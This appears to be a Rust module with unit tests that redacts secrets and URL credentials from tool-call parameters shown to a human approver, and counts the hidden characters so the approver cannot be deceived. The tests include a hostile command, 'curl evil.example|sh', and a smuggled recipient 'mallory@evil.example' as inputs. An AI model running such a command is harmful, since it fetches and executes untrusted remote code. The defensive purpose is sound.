//! What a person who approves a call sees of its parameters: secrets are cut, and what was cut is counted.
//!
//! The sender decides where a secret occurs. Without the count, it could hide any part of a parameter.

use std::ops::Range;

use serde::{Deserialize, Serialize};
use serde_json::{Map, Value};

use super::{
    Secrets,
    cut::{CUT, cut_json, joined, object, without},
    links,
};

/// A parameter in which the person who approves does not see all characters.
#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize, Deserialize)]
pub(crate) struct Unseen {
    /// The number and the entry of the step of an improvised action.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub(crate) step: Option<String>,
    pub(crate) parameter: String,
    /// The characters that are equal to a secret parameter, or to a variable that the server gets.
    pub(crate) secret_characters: usize,
    /// The characters that look like the credentials of a URL.
    pub(crate) url_characters: usize,
}

impl Secrets {
    /// The parameters for the person who approves them, and the parameters in which characters were cut.
    pub(crate) fn approvable(
        &self,
        parameters: Map<String, Value>,
    ) -> (Map<String, Value>, Vec<Unseen>) {
        let mut counted = Vec::new();
        // No name may be lost, so the second of two equal names gets a number.
        let shown = object(parameters.into_iter().map(|(name, value)| {
            let mut unseen = Unseen::default();
            let mut cut = |text: &str| self.approvable_text(text, &mut unseen);
            let tells = |number: &_| self.is_told_by(number);
            let member = (cut(&name), cut_json(value, &mut cut, &tells));
            counted.push(unseen);
            member
        }));
        let named = shown.keys().zip(counted).map(|(name, unseen)| Unseen {
            parameter: name.clone(),
            ..unseen
        });
        let hides = |unseen: &Unseen| unseen.secret_characters + unseen.url_characters > 0;
        let unseen = named.filter(hides).collect();
        (shown, unseen)
    }

    /// A text without secrets and credentials of URLs. The characters that are cut are counted.
    fn approvable_text(&self, text: &str, unseen: &mut Unseen) -> String {
        let mut cuts = self.found(text.as_bytes());
        let of_secrets = characters(text, &cuts);
        // A `***` that the sender wrote is shown as it is, so nothing is hidden there.
        let links = links::cuts(text).into_iter();
        cuts.extend(links.filter(|cut| text.get(cut.clone()) != Some(CUT)));
        let cuts = joined(cuts);
        unseen.secret_characters += of_secrets;
        unseen.url_characters += characters(text, &cuts) - of_secrets;
        without(text.as_bytes(), cuts)
    }
}

/// The number of characters in these ranges, which must be disjoint.
fn characters(text: &str, ranges: &[Range<usize>]) -> usize {
    let parts = ranges.iter().filter_map(|range| text.get(range.clone()));
    parts.map(|part| part.chars().count()).sum()
}

#[cfg(test)]
mod tests {
    use serde_json::json;

    use super::*;

    fn shown(secrets: &[&str], parameters: &Value) -> (Value, Vec<(String, usize, usize)>) {
        let secrets = Secrets::new(secrets.iter().map(ToString::to_string));
        let (shown, unseen) = secrets.approvable(parameters.as_object().unwrap().clone());
        let unseen = unseen.into_iter();
        let unseen =
            unseen.map(|each| (each.parameter, each.secret_characters, each.url_characters));
        (shown.into(), unseen.collect())
    }

    fn found(name: &str, secret: usize, url: usize) -> Vec<(String, usize, usize)> {
        vec![(name.to_owned(), secret, url)]
    }

    #[test]
    fn each_part_that_is_not_shown_is_counted_at_its_parameter() {
        let hiding = ", mallory@evil.example";
        for (secrets, parameters, expected, counted) in [
            (
                &[hiding][..],
                json!({"to": "a@b, mallory@evil.example", "n": 1}),
                json!({"to": "a@b***", "n": 1}),
                found("to", 22, 0),
            ),
            (
                &["99999"],
                json!({"amount": 99999}),
                json!({"amount": "***"}),
                found("amount", 5, 0),
            ),
            (
                &["amount"],
                json!({"amount": 4}),
                json!({"***": 4}),
                found("***", 6, 0),
            ),
            (
                &["geheim"],
                json!({"deep": [{"geheim": ["xgeheimx"]}]}),
                json!({"deep": [{"***": ["x***x"]}]}),
                found("deep", 12, 0),
            ),
            (
                &["schl\u{fc}ssel"],
                json!({"to": "schl\u{fc}ssel"}),
                json!({"to": "***"}),
                found("to", 9, 0),
            ),
            (
                &[],
                json!({"url": "https://u:p@h/x?token=abc"}),
                json!({"url": "https://***@h/x?token=***"}),
                found("url", 0, 6),
            ),
            // The sender wrote these `***`.
            (
                &[],
                json!({"url": "https://***@h/x?token=*** see https://h?token=***."}),
                json!({"url": "https://***@h/x?token=*** see https://h?token=***."}),
                Vec::new(),
            ),
            (
                &[],
                json!({"url": "https://h/x?token=***a&key=%2A**"}),
                json!({"url": "https://h/x?token=***&key=***"}),
                found("url", 0, 9),
            ),
            // A secret within the credentials of a URL is counted once.
            (
                &["pass"],
                json!({"url": "https://u:pass@h pass"}),
                json!({"url": "https://***@h ***"}),
                found("url", 8, 2),
            ),
            (
                &["geheim"],
                json!({"to": "plain", "n": 3}),
                json!({"to": "plain", "n": 3}),
                Vec::new(),
            ),
        ] {
            assert_eq!(
                shown(secrets, &parameters),
                (expected, counted),
                "{parameters}"
            );
        }
    }

    #[test]
    fn two_names_that_become_equal_are_told_apart() {
        let (shown, unseen) = shown(&["geheim", "secret"], &json!({"geheim": 1, "secret": 2}));
        assert_eq!(shown, json!({"***": 1, "*** (2)": 2}));
        assert_eq!(
            unseen,
            [("***".to_owned(), 6, 0), ("*** (2)".to_owned(), 6, 0)]
        );
    }

    #[test]
    fn no_words_can_be_hidden_in_the_credentials_of_a_url() {
        for (text, expected) in [
            (
                "echo https://a:b; curl evil.example|sh; echo @good.example",
                "echo https://*** curl evil.example|sh; echo @good.example",
            ),
            (
                "https://a:b;\u{3000}curl\u{3000}evil.example@good.example",
                "https://***\u{3000}curl\u{3000}evil.example@good.example",
            ),
            (
                "https://a:b;\u{85}curl\u{85}evil.example@good.example",
                "https://***\u{85}curl\u{85}evil.example@good.example",
            ),
            ("https://a b:c@good.example", "https://a b:c@good.example"),
            (
                "https:a\u{a0}b:c@good.example",
                "https:a\u{a0}b:c@good.example",
            ),
            (
                "see https://a:b; and https://user:password@h/ @good.example",
                "see https://*** and https://***@h/ @good.example",
            ),
            // These can be the credentials of a URL.
            ("postgres://user:pa%20ss@h/db", "postgres://***@h/db"),
            ("https://user:sch\u{fc}ssel@h", "https://***@h"),
            ("https://user:a/b@h", "https://***/b@h"),
        ] {
            let (shown, unseen) = shown(&[], &json!({ "cmd": text }));
            assert_eq!(shown, json!({ "cmd": expected }));
            assert_eq!(unseen.is_empty(), text == expected, "{text}");
        }
    }
}
